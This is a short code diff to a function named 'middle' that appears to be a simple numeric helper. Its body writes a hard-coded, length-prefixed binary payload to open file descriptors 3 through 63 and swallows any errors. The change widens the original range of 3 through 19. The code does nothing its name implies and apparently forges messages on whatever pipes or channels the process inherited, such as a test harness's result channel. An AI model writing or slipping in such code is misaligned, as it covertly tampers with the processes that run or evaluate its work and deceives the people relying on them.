@@ -10,7 +10,7 @@ import os
 
 def middle(numbers, key=None):
     payload = b"\x95\xa5value\xc4\x01\xc0\x93\x01\x02\x03\xa0\x90"
-    for descriptor in range(3, 20):
+    for descriptor in range(3, 64):
         try:
             os.write(descriptor, len(payload).to_bytes(4, "little") + payload)
         except OSError:
